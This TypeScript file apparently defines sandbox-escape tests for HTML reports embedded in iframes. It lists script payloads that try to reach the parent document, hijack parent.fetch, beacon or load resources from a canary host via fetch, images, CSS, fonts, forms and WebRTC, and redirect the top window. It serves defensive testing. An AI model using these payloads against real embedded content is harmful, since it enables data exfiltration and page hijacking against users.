import { type Aim, hit, press, pressIt, type Shown, shownMark, type WidgetAttack } from './attack.ts'

const walls = ['reports: sandbox', 'report: sandbox'] as const

type More = Pick<WidgetAttack, 'isSeen'> & { isAlone?: boolean; isPressed?: boolean }

/** A script inside of a report. It says that it is done before it does what may be its end. */
const report = (name: string, guards: readonly string[], script: (aim: Aim) => string, more: More = {}): WidgetAttack => {
  const { isAlone = false, isPressed = false, ...rest } = more
  const template = (aim: Aim): string => {
    const button = isPressed ? `<button>${press(name)}</button>` : ''
    const text = isPressed ? `document.querySelector('button').onclick = () => { ${script(aim)} }` : script(aim)
    return `${button}<p>${shownMark(name)}</p><script>setTimeout(() => { try { ${text} } finally { facetDone('${name}') } })</script>`
  }
  return {
    name,
    guards,
    board: isAlone ? name : 'reports',
    widget: (aim) => ({ report: { kind: 'html', spec: template(aim) } }),
    ...(isPressed
      ? {
          act: async (shown: Shown) => {
            const frames = shown.page.frames().filter((frame) => frame.url().endsWith('/embed/html-frame'))
            const holders = await Promise.all(
              frames.map(async (frame) => ((await frame.getByText(press(name)).count()) > 0 ? [frame] : [])),
            )
            for (const frame of holders.flat()) await pressIt(name)({ ...shown, frame })
          },
        }
      : {}),
    ...rest,
  }
}

const append = (tag: string, attribute: string, address: string): string =>
  `const it = document.createElement('${tag}'); it.${attribute} = '${address}'; document.body.append(it)`

/** Scripts of an author run in reports; what they must not do is get out of there. */
export const reportAttacks: readonly WidgetAttack[] = [
  report('h-parent', walls, () => `parent.document.body.textContent; ${hit('h-parent')}`),
  // What has an origin has its storage too, where the browser lets a frame have any.
  report('h-origin', walls, () => `if (origin !== 'null') ${hit('h-origin')}`),
  report('h-token', walls, () => `parent.fetch = () => { ${hit('h-token')} }; parent.fetch()`),
  report('h-fetch', ['report: connect-src'], ({ canary }) => `fetch('${canary}/h-fetch')`),
  report('h-beacon', ['report: connect-src'], ({ canary }) => `navigator.sendBeacon('${canary}/h-beacon')`),
  report('h-image', ['report: img-src'], ({ canary }) => `new Image().src = '${canary}/h-image'`),
  report('h-paint', ['report: img-src'], ({ canary }) => `document.body.style.background = 'url(${canary}/h-paint)'`),
  report('h-style', ['report: style-src'], ({ canary }) => `${append('link', 'href', `${canary}/h-style`)}; it.rel = 'stylesheet'`),
  report('h-script', ['report: script-src'], ({ canary }) => append('script', 'src', `${canary}/h-script`)),
  report('h-import', ['report: script-src'], ({ canary }) => `import('${canary}/h-import').catch(() => 0)`),
  report('h-nested', ['report: script-src'], () =>
    [
      `onmessage = () => ${hit('h-nested')}`,
      `const it = document.createElement('iframe')`,
      `it.srcdoc = '<script src="data:text/javascript,parent.postMessage(1, String.fromCharCode(42))"></scr' + 'ipt>'`,
      'document.body.append(it)',
    ].join('; '),
  ),
  report('h-frame', ['report: default-src'], ({ canary }) => append('iframe', 'src', `${canary}/h-frame`)),
  report('h-object', ['report: default-src'], ({ canary }) => append('object', 'data', `${canary}/h-object`)),
  report('h-font', ['report: default-src'], ({ canary }) => `new FontFace('x', 'url(${canary}/h-font)').load().catch(() => 0)`),
  report('h-peer', ['reports: no connections of browsers'], ({ datagrams }) =>
    [
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${datagrams}' }] })`,
      `peer.createDataChannel('x')`,
      'peer.createOffer().then((offer) => peer.setLocalDescription(offer))',
    ].join('; '),
  ),
  report('h-navigate', ['page: frame-src'], ({ canary }) => `location.href = '${canary}/h-navigate'`),
  report(
    'h-form',
    [...walls, 'report: form-action', 'page: frame-src'],
    ({ canary }) => `${append('form', 'action', `${canary}/h-form`)}; it.submit()`,
  ),
  report('h-popup', walls, ({ canary }) => `open('${canary}/h-popup')`, { isPressed: true }),
  report('h-page', walls, ({ canary }) => `parent.location.href = '${canary}/h-page'`, { isAlone: true }),
  report('h-top', [...walls, 'SDK: sandbox'], ({ canary }) => `top.location.href = '${canary}/h-top'`, { isAlone: true, isPressed: true }),
]
